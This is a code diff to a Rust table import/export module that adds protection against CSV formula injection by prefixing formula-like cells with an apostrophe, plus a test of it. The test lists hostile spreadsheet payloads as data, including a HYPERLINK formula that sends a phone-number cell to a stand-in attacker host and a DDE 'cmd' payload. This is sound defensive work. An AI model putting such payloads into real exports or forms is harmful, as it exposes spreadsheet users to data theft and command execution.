@@ -74,16 +74,17 @@ fn read_csv(bytes: &[u8]) -> Result<Table, TabularError> {
             line: e.position().map(|p| p.line()).unwrap_or(0),
             reason: e.to_string(),
         })?;
-        rows.push(record.iter().map(|cell| cell.trim().to_string()).collect::<Vec<_>>());
+        rows.push(record.iter().map(|cell| unguarded(cell.trim()).to_string()).collect::<Vec<_>>());
     }
     let mut rows = rows.into_iter();
     let headers = rows.next().ok_or(TabularError::Empty)?;
     Ok(Table { headers, rows: rows.collect() })
 }
 
-/// European Excel writes `;`-separated CSV; some exports use tabs.
+/// European Excel writes `;`-separated CSV; some exports use tabs. A tie (a file of one
+/// column has none of them) goes to the comma: `max_by_key` keeps the last of equals.
 fn sniff_delimiter(first_line: &str) -> u8 {
-    [b',', b';', b'\t'].into_iter().max_by_key(|d| first_line.bytes().filter(|b| b == d).count()).unwrap_or(b',')
+    [b'\t', b';', b','].into_iter().max_by_key(|d| first_line.bytes().filter(|b| b == d).count()).unwrap_or(b',')
 }
 
 fn read_xlsx(bytes: &[u8]) -> Result<Table, TabularError> {
@@ -117,14 +118,39 @@ fn cell_text(cell: &Data) -> String {
     }
 }
 
+/// Whether a spreadsheet would read `cell` as a formula. A name typed as
+/// `=HYPERLINK("https://…?"&E3,"…")` would otherwise run when an admin opens the export, and
+/// could send other people's phone numbers away (OWASP: "CSV injection"). A number written
+/// with its sign (`+994 50 123 45 67`, `-12.5`) is no formula.
+fn read_as_formula(cell: &str) -> bool {
+    let mut chars = cell.chars();
+    match chars.next() {
+        Some('=' | '@' | '\t' | '\r') => true,
+        Some('+' | '-') => !chars.as_str().chars().all(|c| c.is_ascii_digit() || matches!(c, ' ' | '.' | ',')),
+        _ => false,
+    }
+}
+
+/// A cell a spreadsheet would run is written after an apostrophe, which makes it text.
+fn guarded(cell: &str) -> std::borrow::Cow<'_, str> {
+    if read_as_formula(cell) { format!("'{cell}").into() } else { cell.into() }
+}
+
+/// The cell `guarded` wrote, as it was: a file exported, edited and imported again keeps it.
+fn unguarded(cell: &str) -> &str {
+    cell.strip_prefix('\'').filter(|rest| read_as_formula(rest)).unwrap_or(cell)
+}
+
 pub fn write_csv(table: &Table) -> Result<Vec<u8>, TabularError> {
     // The byte-order mark makes Excel open the file as UTF-8 (ə, ş, ğ intact).
     let mut out = "\u{feff}".as_bytes().to_vec();
     {
         let mut writer = csv::Writer::from_writer(&mut out);
-        writer.write_record(&table.headers).map_err(|e| TabularError::Write(e.to_string()))?;
-        for row in &table.rows {
-            writer.write_record(row).map_err(|e| TabularError::Write(e.to_string()))?;
+        for row in std::iter::once(&table.headers).chain(&table.rows) {
+            let cells: Vec<_> = row.iter().map(|cell| guarded(cell)).collect();
+            writer
+                .write_record(cells.iter().map(|cell| cell.as_bytes()))
+                .map_err(|e| TabularError::Write(e.to_string()))?;
         }
         writer.flush().map_err(|e| TabularError::Write(e.to_string()))?;
     }
@@ -180,6 +206,34 @@ mod tests {
         let bytes = write_xlsx("Constituencies", &table()).unwrap();
         assert_eq!(Format::detect(&bytes), Format::Xlsx);
         assert_eq!(read(&bytes).unwrap(), table());
+    }
+
+    #[test]
+    fn csv_cells_a_spreadsheet_would_run_are_written_as_text_and_read_back_as_typed() {
+        let cells = [
+            r#"=HYPERLINK("https://evil.example/?p="&E3,"Details")"#,
+            "@SUM(A1:A9)",
+            "+E3",
+            "-1+cmd|' /C calc'!A0",
+            "\t=1",
+            "+994 50 123 45 67",
+            "-12.5",
+            "'quoted",
+            "Əliyev = Aliyev",
+        ];
+        let table = Table { headers: vec!["name".into()], rows: cells.iter().map(|c| vec![c.to_string()]).collect() };
+        let bytes = write_csv(&table).unwrap();
+        let text = String::from_utf8(bytes.clone()).unwrap();
+        let written: Vec<&str> = text.lines().skip(1).collect();
+        assert!(written[0].starts_with("\"'=HYPERLINK"), "{text}");
+        assert_eq!(&written[1..4], ["'@SUM(A1:A9)", "'+E3", "'-1+cmd|' /C calc'!A0"]);
+        assert!(written[4].starts_with("'\t=1"), "{text}");
+        assert_eq!(
+            &written[5..],
+            ["+994 50 123 45 67", "-12.5", "'quoted", "Əliyev = Aliyev"],
+            "numbers and text stay as they are"
+        );
+        assert_eq!(read(&bytes).unwrap(), table, "read back as typed");
     }
 
     #[test]
